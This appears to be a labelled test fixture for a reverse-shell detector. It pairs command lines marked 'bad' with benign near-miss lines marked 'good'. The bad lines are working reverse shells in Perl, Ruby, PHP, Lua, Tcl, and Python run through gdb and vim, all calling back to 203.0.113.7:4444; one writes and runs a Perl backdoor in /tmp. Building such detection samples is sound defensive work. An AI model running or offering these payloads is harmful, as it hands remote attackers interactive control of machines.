# bad: Perl
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4444, inet_aton("203.0.113.7"))); open(STDIN, ">&S"); exec("/bin/sh -i");'
# bad: Ruby
ruby -rsocket -e 'c = TCPSocket.new("203.0.113.7", 4444); while (l = c.gets); IO.popen(l, "r") { |io| c.print io.read } end'
# bad: PHP
php -r '$s = fsockopen("203.0.113.7", 4444); exec("/bin/sh -i <&3 >&3 2>&3");'
# good: Perl that edits text
perl -pe 's/socket/plug/' notes.txt
# bad: Lua, line by line
lua -e 'local s = require("socket").tcp(); s:connect("203.0.113.7", 4444); while true do local l = s:receive(); local p = io.popen(l); s:send(p:read("*a")) end'
# bad: Tcl
tclsh << 'X'
set s [socket 203.0.113.7 4444]
while {[gets $s line] >= 0} { catch {eval exec $line} out; puts $s $out; flush $s }
X
# bad: a Perl script that is written and run
cat > /tmp/back.pl << 'X'
use IO::Socket::INET;
my $peer = IO::Socket::INET->new("203.0.113.7:4444");
while (my $line = <$peer>) {
  my $out = qx($line);
  print $peer $out;
}
X
perl /tmp/back.pl
# good: nearly: Perl that asks a service and runs a fixed command
perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("redis.example:6379"); print $s "PING\r\n"; print <$s>; system("uptime");'
# good: nearly: PHP that tells a metric what a fixed command prints
php -r '$s = fsockopen("metrics.example", 2003); $load = shell_exec("uptime"); fwrite($s, $load);'
# bad: Python in a debugger
gdb -nx -ex 'python import os,socket,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")' -ex quit
# bad: Python in an editor
vim -c ':py3 import socket,subprocess;s=socket.create_connection(("203.0.113.7",4444));subprocess.call(["sh"],stdin=s,stdout=s)'
# good: nearly: Python in an editor that counts
vim -c ':py3 print(len("word"))'
